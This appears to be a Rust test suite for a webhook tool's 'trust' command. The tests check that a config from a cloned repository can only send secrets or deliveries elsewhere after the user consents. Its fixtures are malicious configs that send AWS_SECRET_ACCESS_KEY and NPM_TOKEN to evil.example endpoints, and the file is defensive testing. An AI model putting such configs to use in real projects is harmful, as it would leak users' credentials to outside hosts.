//! `hookdev trust`: what a config that was found may do only with the user's consent.

use crate::harness::{Dir, PUBLIC_SECRET, TestCommand};

const HINT: &str = "hint: read the config, then run `hookdev trust` to allow this; --no-config ignores the config\n";
const TRUSTED: &str = "note: trusted with its current content; after a change, run `hookdev trust` again\n";

/// A provider that sends its secret as it is.
const TOKEN_MANIFEST: &str = r#"name = "evil"
title = "Evil"
about = "A test"

[secret]
env = "AWS_SECRET_ACCESS_KEY"
development = "evil-development"

[[scheme]]
name = "token"
algorithm = "token"
content = "{body}"
signature = { header = "x-t", value = "{token}" }

[delivery]
success = ["2xx"]

[[event]]
name = "made"
about = "Something was made"
match = { type = "made" }
"#;

fn path(dir: &Dir) -> String {
    dir.join("hookdev.toml").display().to_string()
}

/// A cloned repository whose config has secrets sent to another machine.
fn repository() -> Dir {
    let dir = Dir::new();
    dir.write(
        "hookdev.toml",
        "[provider.cyanite]\nendpoint = \"https://evil.example/x?token=1\"\nsecret = \"env:AWS_SECRET_ACCESS_KEY\"\n",
    );
    dir
}

/// A cloned repository with a provider that sends its secret as it is.
fn repository_with_token() -> Dir {
    let dir = Dir::new();
    dir.write("providers/evil/provider.toml", TOKEN_MANIFEST);
    dir.write("providers/evil/events/made.json", r#"{ "type": "made" }"#);
    dir.write("hookdev.toml", "providers = [\"providers\"]\n");
    dir
}

fn print(dir: &Dir, event: &str) -> TestCommand {
    dir.hookdev().args(["send", event, "-q", "--print", "json"]).env("AWS_SECRET_ACCESS_KEY", "topsecret")
}

#[test]
fn deliveries_with_a_secret_go_elsewhere_only_with_trust() {
    let dir = repository();
    let config = path(&dir);
    let named = format!("config: {config}\n");
    let refusal = format!(
        "error: the config {config} sends Cyanite deliveries, signed with env:AWS_SECRET_ACCESS_KEY, \
         to https://evil.example/x?token=[redacted]; this needs your trust\n{HINT}"
    );
    print(&dir, "cyanite.v2.finished").exits(2).stdout("").stderr(&format!("{named}{refusal}"));
    let check = dir.hookdev().args(["check", "-q"]).env("AWS_SECRET_ACCESS_KEY", "topsecret");
    check.exits(2).stdout("").stderr(&format!("{named}{refusal}"));

    // What needs none: another destination, and the same config by name.
    print(&dir, "cyanite.v2.finished").args(["--to", "http://127.0.0.1:1/"]).exits(0).stderr(&named);
    print(&dir, "cyanite.v2.finished").args(["--config", "hookdev.toml"]).exits(0).stderr("");
    print(&dir, "cyanite.v2.finished").arg("--no-config").exits(0).stderr(PUBLIC_SECRET);

    dir.hookdev().arg("trust").exits(0).stderr(TRUSTED).stdout(&format!(
        "{config}\n  \
         sends cyanite deliveries to https://evil.example/x?token=[redacted]\n  \
         reads the secret of cyanite from env:AWS_SECRET_ACCESS_KEY\n"
    ));
    print(&dir, "cyanite.v2.finished").exits(0).stderr(&named);

    let before = dir.read("hookdev.toml");
    dir.write("hookdev.toml", format!("{before}# changed\n"));
    print(&dir, "cyanite.v2.finished").exits(2).stdout("").stderr(&format!("{named}{refusal}"));
    dir.write("hookdev.toml", before);
    print(&dir, "cyanite.v2.finished").exits(0).stderr(&named);
}

#[test]
fn what_is_public_goes_elsewhere_without_trust() {
    let dir = Dir::new();
    let endpoint = "endpoint = \"https://staging.example/hooks\"\n";
    dir.write("hookdev.toml", format!("[provider.cyanite]\n{endpoint}[provider.auphonic]\n{endpoint}"));
    let named = format!("config: {}\n", path(&dir));
    print(&dir, "cyanite.v2.finished").exits(0).stderr(&format!("{named}{PUBLIC_SECRET}"));
    print(&dir, "auphonic.done").exits(0).stderr(&named);
    print(&dir, "cyanite.v2.finished").env("CYANITE_WEBHOOK_SECRET", "mine").exits(2).says(HINT);
}

#[test]
fn captured_requests_go_elsewhere_only_with_trust() {
    let dir = Dir::new();
    dir.write("hookdev.toml", "[listen]\naddr = \"evil.example:80\"\n");
    dir.write("capture.http", "POST /other HTTP/1.1\nauthorization: Bearer x\n\n{}");
    print(&dir, "capture.http").exits(2).stdout("").stderr(&format!(
        "config: {0}\nerror: the config {0} sends captured requests to http://evil.example/; this needs your trust\n{HINT}",
        path(&dir)
    ));
    dir.hookdev().args(["trust", "-q"]).exits(0).stdout("").stderr("");
    print(&dir, "capture.http").exits(0).stderr(&format!("config: {}\n", path(&dir)));
}

#[test]
fn deliveries_are_forwarded_elsewhere_only_with_trust() {
    let dir = Dir::new();
    let local = "[[forward]]\nto = \"http://localhost:1/\"\n";
    // A directory that doesn't exist can't be watched.
    dir.write(".local/state/hookdev/trust/other", "");
    dir.write("hookdev.toml", local);
    let mut listener = dir.listen().starts();
    let refusal =
        format!("error: the config {} forwards aspect.* to https://evil.example/; this needs your trust\n", path(&dir));
    dir.replace("hookdev.toml", "[[forward]]\nevents = \"aspect.*\"\nto = \"https://evil.example/\"\n");
    listener.says(&format!("{refusal}hint: still using the previous configuration; fix the error and save again\n"));
    dir.listen().exits(2).stdout("").stderr(&format!("config: {}\n{refusal}{HINT}", path(&dir)));
    dir.hookdev()
        .arg("trust")
        .exits(0)
        .stdout(&format!("{}\n  forwards aspect.* to https://evil.example/\n", path(&dir)));
    #[cfg(target_os = "linux")]
    listener.says(
        "note: config reloaded\n\
         note: no longer forwards * to http://localhost:1/\n\
         note: now forwards aspect.* to https://evil.example/\n",
    );
    drop(dir.listen().starts());
    dir.replace("hookdev.toml", local);
    listener.says("note: now forwards * to http://localhost:1/\n");
    dir.replace("hookdev.toml", "[[forward]]\nevents = \"cyanite.*\"\nto = \"http://127.0.0.1:1/\"\n");
    listener.says(
        "note: config reloaded\n\
         note: no longer forwards * to http://localhost:1/\n\
         note: now forwards cyanite.* to http://127.0.0.1:1/\n",
    );
}

#[test]
fn a_provider_that_sends_its_secret_is_added_only_with_trust() {
    let dir = repository_with_token();
    let config = path(&dir);
    let refusal = format!(
        "error: the config {config} adds the provider Evil, which sends its secret unhashed; this needs your trust\n{HINT}"
    );
    dir.write("capture.http", "POST /evil HTTP/1.1\nx-t: topsecret\n\n{\"type\":\"made\"}");
    let verify = || dir.hookdev().args(["verify", "capture.http", "-q"]).env("AWS_SECRET_ACCESS_KEY", "topsecret");
    print(&dir, "evil.made").exits(2).stdout("").stderr(&refusal);
    verify().exits(2).stdout("").stderr(&refusal);
    dir.listen().exits(2).stdout("").stderr(&refusal);
    dir.hookdev().args(["check", "--provider", "evil"]).exits(2).stdout("").stderr(&refusal);
    // Neither uses a secret.
    dir.hookdev().args(["events", "evil.*"]).exits(0).stderr("");
    print(&dir, "evil.made").args(["--no-config", "--providers", "providers"]).exits(0).stderr("");

    dir.hookdev().arg("trust").exits(0).stderr(TRUSTED).stdout(&format!(
        "{config}\n  adds the provider evil from {}, with the secret in AWS_SECRET_ACCESS_KEY, which it sends unhashed\n",
        dir.join("providers/evil").display()
    ));
    print(&dir, "evil.made").exits(0).stderr(&format!("config: {config}\n")).prints("[\"x-t\",\"topsecret\"]");
    verify().exits(0).stderr(&format!("config: {config}\n"));

    dir.write("providers/evil/provider.toml", TOKEN_MANIFEST.replace("AWS_SECRET_ACCESS_KEY", "NPM_TOKEN"));
    print(&dir, "evil.made").exits(2).stdout("").stderr(&refusal);
}

#[test]
fn a_provider_that_sends_a_part_of_its_secret_is_added_only_with_trust() {
    let dir = repository_with_token();
    let jwt = |claim: &str| {
        let manifest =
            TOKEN_MANIFEST.replace("algorithm = \"token\"\ncontent = \"{body}\"", "algorithm = \"jwt-hs256\"");
        let claims = format!("{{jwt}}\" }}\nclaims = {{ leak = \"{claim}\", body = \"{{sha256:body}}\" }}");
        manifest.replace("{token}\" }", &claims).replace("evil-development", "evil:development")
    };
    dir.write("providers/evil/provider.toml", jwt("{key}"));
    print(&dir, "evil.made").exits(2).stdout("").says(HINT);
    // The secret itself can't be sent, whatever is trusted.
    dir.write("providers/evil/provider.toml", jwt("{secret}"));
    let print = || print(&dir, "evil.made").exits(2).stdout("");
    print().says("a token's claims are sent as they are, so `{secret}` can't be in one\n");
}

#[test]
fn a_provider_that_signs_needs_no_trust() {
    let dir = repository_with_token();
    let signs = TOKEN_MANIFEST.replace("\"token\"\ncontent", "\"hmac-sha256\"\ncontent").replace("{token}", "{hex}");
    dir.write("providers/evil/provider.toml", signs);
    // Its manifest decides which variable is read, so the config is named.
    print(&dir, "evil.made").exits(0).stderr(&format!("config: {}\n", path(&dir)));
}

#[test]
fn programs_read_what_is_trusted() {
    let dir = repository_with_token();
    let config = "providers = [\"providers\"]\nenv_file = \".env\"\n[[forward]]\nto = \"http://localhost:1/?key=2\"\n\
                  [provider.cyanite]\nendpoint = \"https://a.example/\"\nsecret = [\"literal\", \"file:secret\"]\n\
                  [tunnel.mine]\ncommand = [\"prog\", \"{port}\"]\nenv = { TOKEN = \"literal\" }\nurl = { json = \"/url\" }\n";
    dir.write("hookdev.toml", config);
    let trust = || dir.hookdev().args(["trust", "--json"]);
    let expected = serde_json::json!({
        "kind": "trust",
        "config": path(&dir),
        "endpoints": [{"provider": "cyanite", "url": "https://a.example/"}],
        "forwards": [{"events": "*", "url": "http://localhost:1/?key=[redacted]"}],
        "secrets": [{"provider": "cyanite", "sources": ["config", "file:secret"]}],
        "env_file": dir.join(".env").to_str().unwrap(),
        "providers": [{
            "name": "evil",
            "source": dir.join("providers/evil").to_str().unwrap(),
            "secret_env": "AWS_SECRET_ACCESS_KEY",
            "sends_secret": true,
        }],
        "apis": [],
        "tunnels": [{"name": "mine", "command": ["prog", "{port}"], "env": ["TOKEN"]}],
    });
    assert_eq!(trust().exits(0).line(), expected);
    dir.write("other/x", "");
    let from_elsewhere = dir.hookdev().args(["trust", "--json", ".././hookdev.toml"]).inside(&dir.join("other"));
    assert_eq!(from_elsewhere.exits(0).line(), expected);
    #[cfg(target_os = "linux")]
    assert_eq!(dir.names(".local/state/hookdev/trust").len(), 1, "it is the same record");
}

#[test]
fn what_cannot_be_trusted_says_why() {
    let dir = Dir::new();
    let trust = || dir.hookdev().arg("trust");
    let none = format!(
        "error: no hookdev.toml in {} or above it\nhint: name one: hookdev trust FILE\n",
        dir.join("").display().to_string().trim_end_matches('/')
    );
    trust().exits(2).stdout("").stderr(&none);
    dir.write("hookdev.toml", "nonsense\n");
    trust().exits(2).stdout("").says("hookdev.toml:1:9: ");
    dir.write("hookdev.toml", "");
    trust().arg("no-such.toml").exits(2).stdout("").says("error: can't read the config ");
    trust().env("HOME", "relative").exits(2).says(if cfg!(target_os = "linux") {
        "error: can't record trust: no absolute path to a home directory is set\n"
    } else {
        "error: can't record trust"
    });
    dir.write("file", "");
    trust()
        .env("XDG_STATE_HOME", dir.join("file"))
        .env("HOME", dir.join("file"))
        .exits(2)
        .says("error: can't record trust in ");
}

#[cfg(target_os = "linux")]
#[test]
fn only_its_owner_can_read_what_is_trusted() {
    use std::{fs, os::unix::fs::PermissionsExt};

    let dir = repository();
    dir.hookdev().arg("trust").env("XDG_STATE_HOME", dir.join("state")).exits(0);
    let records = dir.names("state/hookdev/trust");
    assert_eq!(records.len(), 1);
    let record = dir.join("state/hookdev/trust").join(&records[0]);
    assert_eq!(fs::metadata(&record).unwrap().permissions().mode() & 0o777, 0o600);
    assert_eq!(fs::read_to_string(record).unwrap(), format!("{}\n", path(&dir)));
}

#[test]
fn trust_lists_where_keys_go_and_forges_no_line() {
    let dir = Dir::new();
    dir.write(
        "hookdev.toml",
        "[provider.aspect]\napi = \"https://evil.example/api?token=1\"\n[[forward]]\nevents = \"a\\n  b\"\n\
         to = \"http://127.0.0.1:1/\"\n[tunnel.t]\ncommand = [\"sh\", \"-c\", \"echo a\\n  b\"]\nurl = { line = \"x\" }\n",
    );
    let expected = format!(
        "{}\n  forwards a\\n  b to http://127.0.0.1:1/\n  \
         sends the API key of aspect to https://evil.example/api?token=[redacted], with the key in ASPECT_API_KEY\n  \
         starts `sh -c 'echo a\\n  b'` for the tunnel t\n",
        path(&dir)
    );
    dir.hookdev().arg("trust").exits(0).stdout(&expected);
    let line = dir.hookdev().args(["trust", "--json"]).exits(0).line();
    let url = "https://evil.example/api?token=[redacted]";
    let api = serde_json::json!([{ "provider": "aspect", "url": url, "key_env": "ASPECT_API_KEY" }]);
    assert_eq!(line["apis"], api);
}

#[test]
fn trust_lists_where_the_key_of_an_added_providers_api_goes() {
    let dir = repository_with_token();
    let call = |name: &str, more: &str| {
        let headers = "headers = { authorization = \"{key}\" }";
        format!("{name} = {{ method = \"POST\", path = \"/x\", {headers}{more} }}\n")
    };
    let calls = [
        call("read", ", take = { previous = \"/x\" }"),
        call("set", ", json = { x = \"{url}\" }"),
        call("restore", ", json = { x = \"{previous}\" }"),
    ];
    let register = "[register]\napi = \"https://evil.example/api\"\nkey = \"NPM_TOKEN\"\n".to_owned() + &calls.concat();
    dir.write("providers/evil/provider.toml", TOKEN_MANIFEST.replace("[[event]]", &(register + "\n[[event]]")));
    let line = dir.hookdev().args(["trust", "--json"]).exits(0).line();
    let api = serde_json::json!([{ "provider": "evil", "url": "https://evil.example/api", "key_env": "NPM_TOKEN" }]);
    assert_eq!(line["apis"], api);
    let listed = "  sends the API key of evil to https://evil.example/api, with the key in NPM_TOKEN\n";
    dir.hookdev().arg("trust").exits(0).prints(listed);
}
